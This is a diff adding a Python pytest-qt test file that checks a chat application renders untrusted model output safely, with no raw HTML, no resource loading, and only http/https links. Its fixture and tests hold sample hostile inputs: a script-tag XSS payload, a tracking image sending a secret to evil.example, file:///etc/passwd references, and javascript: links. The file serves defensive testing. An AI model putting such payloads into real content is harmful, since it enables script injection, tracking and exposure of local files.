@@ -1,0 +1,63 @@
+"""Model output is untrusted: no raw HTML, no resource is ever loaded, links only on
+click and only http/https."""
+
+from __future__ import annotations
+
+from PySide6.QtCore import QUrl
+from PySide6.QtGui import QTextDocument
+from pytestqt.qtbot import QtBot
+
+from chatlab.demo.scripts import Script
+from chatlab.demo.server import DemoServer
+from chatlab.ui.text import AnswerView, ResourceLog, SafeBrowser, SafeDocument, link_is_safe
+from chatlab.ui.window import MainWindow
+from tests.ui.conftest import add_lanes, wait_turn
+
+HOSTILE = (
+    'Hello <b>raw</b> <script>alert(1)</script> <img src="http://evil.example/raw.png">\n\n'
+    "![pixel](http://evil.example/track.png?secret=1) ![local](file:///etc/passwd)\n\n"
+    "[a link](https://example.org/) and [bad](javascript:alert(1))\n\n"
+    "```python\nprint('<i>not html</i>')\n```\n"
+)
+
+
+def test_loaders_refuse_everything(qtbot: QtBot) -> None:
+    before = len(ResourceLog.requests)
+    for url in ("http://evil.example/x.png", "https://evil.example/y", "file:///etc/passwd", "data:,x"):
+        assert SafeBrowser().loadResource(int(QTextDocument.ResourceType.ImageResource), QUrl(url)) is None
+        assert SafeDocument().loadResource(int(QTextDocument.ResourceType.ImageResource), QUrl(url)) is None
+    assert len(ResourceLog.requests) == before + 8
+
+
+def test_hostile_answer_renders_safely(
+    window: MainWindow,
+    qtbot: QtBot,
+    server: DemoServer,
+) -> None:
+    server.add("hostile", Script(answer=HOSTILE))
+    [lane] = add_lanes(window, "chat:hostile")
+    window.prompt.setPlainText("hi")
+    before = len(ResourceLog.requests)
+    wait_turn(qtbot, window)
+    view = window.lane_widgets[lane.id].answer
+    view.grab()  # force layout and painting, when images would be fetched
+    html = view.toHtml()
+    text = view.toPlainText()
+    assert "<b>raw</b>" in text and "<script>" in text  # shown as text, not markup
+    assert "<img" not in html and "<script" not in html.replace("&lt;script", "")
+    assert "image: pixel" in text and "image: local" in text  # images became plain links
+    assert ResourceLog.requests[before:] == []  # nothing was even requested
+
+
+def test_only_http_links_open() -> None:
+    assert link_is_safe(QUrl("https://example.org/x")) and link_is_safe(QUrl("http://example.org"))
+    for url in ("javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "ftp://example.org/"):
+        assert not link_is_safe(QUrl(url))
+
+
+def test_refused_link_click_is_reported(qtbot: QtBot) -> None:
+    view = AnswerView()
+    qtbot.addWidget(view)
+    with qtbot.waitSignal(view.linkRefused) as blocker:
+        view.anchorClicked.emit(QUrl("file:///etc/passwd"))
+    assert blocker.args == ["file:///etc/passwd"]
